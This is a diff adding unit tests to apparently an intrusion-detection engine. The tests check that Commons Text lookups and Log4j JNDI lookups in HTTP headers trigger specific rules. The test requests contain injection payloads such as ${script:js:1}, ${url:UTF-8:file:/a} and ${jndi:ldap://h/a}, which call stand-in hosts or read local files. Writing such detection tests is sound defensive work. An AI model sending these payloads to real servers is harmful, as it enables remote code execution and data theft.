@@ -50,6 +50,38 @@ static void a_header_tells_all_of_its_lookup(void)
     bench_stop(&b);
 }
 
+static void look_ups_of_commons_text_have_rules_of_their_own(void)
+{
+    struct bench b;
+    bench_start(&b, "");
+    request(&b, "GET / HTTP/1.1\r\nUser-Agent: ${script:js:1}\r\n"
+                "X-A: ${dns:address|x.example}\r\nX-B: %24%7Burl:UTF-8:http://x.example/%7D\r\n"
+                "X-C: ${url:UTF-8:file:/a}\r\nX-D: ${a:-${script:js:2}}\r\n"
+                "X-E: ${script:f()}\r\nX-F: ${env:HOME} ${url:home}\r\n\r\n");
+    EXPECT(&b, "commons text", {9001101, "http.user_agent", "script:js:1"},
+           {9001102, "http.request_header.x-a", "dns:address|x.example"},
+           {9001103, "http.request_header.x-b", "url:UTF-8:http://x.example/"},
+           {9001110, "http.request_header.x-c", "url:UTF-8:file:/a"},
+           {9001120, "http.request_header.x-d", "script:js:2"},
+           {9001130, "http.request_header.x-e", NULL});
+    CU_ASSERT_EQUAL(b.found[0]->jndi->dialect, LOOKUP_COMMONS_TEXT);
+    CU_ASSERT(span_equal(b.found[0]->jndi->scheme, SPAN("script")));
+    CU_ASSERT(span_equal(b.found[1]->jndi->callback.host, SPAN("x.example")));
+    bench_stop(&b);
+}
+
+static void a_text_may_hold_look_ups_of_both(void)
+{
+    struct bench b;
+    bench_start(&b, "");
+    request(&b, "GET / HTTP/1.1\r\nUser-Agent: ${dns:x} ${jndi:ldap://h/a}\r\n"
+                "X-A: ${dns:y}\r\nX-${jndi:ldap://h/b}: c\r\n\r\n");
+    EXPECT(&b, "both", {9000101, "http.user_agent", "jndi:ldap://h/a"},
+           {9001102, "http.user_agent", "dns:x"}, {9001102, "http.request_header.x-a", "dns:y"},
+           {9000101, "http.header", "jndi:ldap://h/b"});
+    bench_stop(&b);
+}
+
 static void a_clean_head_finds_nothing(void)
 {
     struct bench b;
@@ -434,6 +466,9 @@ static void bodies_stay_searched_when_memory_is_short(void)
 
 static CU_TestInfo heads[] = {
     {"a header tells all of its look-up", a_header_tells_all_of_its_lookup},
+    {"look-ups of Commons Text have rules of their own",
+     look_ups_of_commons_text_have_rules_of_their_own},
+    {"a text may hold look-ups of both", a_text_may_hold_look_ups_of_both},
     {"a clean head finds nothing", a_clean_head_finds_nothing},
     {"the same look-up in two headers is two findings",
      the_same_lookup_in_two_headers_is_two_findings},
